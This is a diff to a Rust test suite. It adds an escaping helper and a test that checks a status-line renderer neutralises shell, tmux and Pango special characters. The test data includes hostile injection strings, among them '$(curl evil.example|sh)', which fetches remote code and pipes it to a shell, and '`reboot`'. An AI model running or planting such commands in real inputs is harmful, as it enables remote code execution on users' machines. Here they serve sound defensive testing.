@@ -232,8 +232,43 @@ fn the_status_line_is_one_line() {
         let expected = match what {
             "nobody" => "Lookout: Nobody is in\n".to_owned(),
             "a crowd" => "Lookout: 30 people are in (Person 0, Person 1, Person 10, Person 11, Person 12, …)\n".to_owned(),
-            _ => format!("Lookout: 1 person is in ({name})\n"),
+            _ => format!("Lookout: 1 person is in ({})\n", full_width(name)),
         };
         assert_eq!(text, expected, "{what}");
     });
+}
+
+/// What tmux, waybar and shells read as a command or as markup.
+const STATUS_LINE_COMMANDS: [char; 9] = ['$', '`', '\\', '#', '%', '!', '<', '>', '&'];
+
+fn full_width(text: &str) -> String {
+    let wide = |c: char| char::from_u32(u32::from(c) + 0xfee0).expect("ASCII has full-width forms");
+    text.chars().map(|c| if STATUS_LINE_COMMANDS.contains(&c) { wide(c) } else { c }).collect()
+}
+
+#[test]
+fn nothing_in_the_status_line_is_a_command() {
+    let every_one: String = STATUS_LINE_COMMANDS.iter().collect();
+    #[rustfmt::skip]
+    let cases = [
+        // what is special          name and heading
+        ("a shell's command",       "$(curl evil.example|sh)"),
+        ("one in another form",     "`reboot`"),
+        ("a command of tmux",       "#(reboot)"),
+        ("a style of tmux",         "#[fg=red]#{pane_id}"),
+        ("a time of tmux",          "%H:%M"),
+        ("an element of Pango",     "<span size='99999'>A</span>&amp;"),
+        ("a history expansion",     "!!"),
+        ("an escape of a prompt",   r"\u@\h"),
+        ("all of them",             &every_one),
+    ];
+    for (what, text) in cases {
+        let mut installation = Installation::of("status-line");
+        installation.settings.site.title = text.to_owned();
+        installation.settings.rooms = vec![room("lounge", text)];
+        let line = installation.render("status.txt", &called(text));
+        let left = line.find(STATUS_LINE_COMMANDS);
+        assert_eq!(left, None, "{what}: {line}");
+        assert_eq!(line.matches(&full_width(text)).count(), 2, "{what}: {line}");
+    }
 }
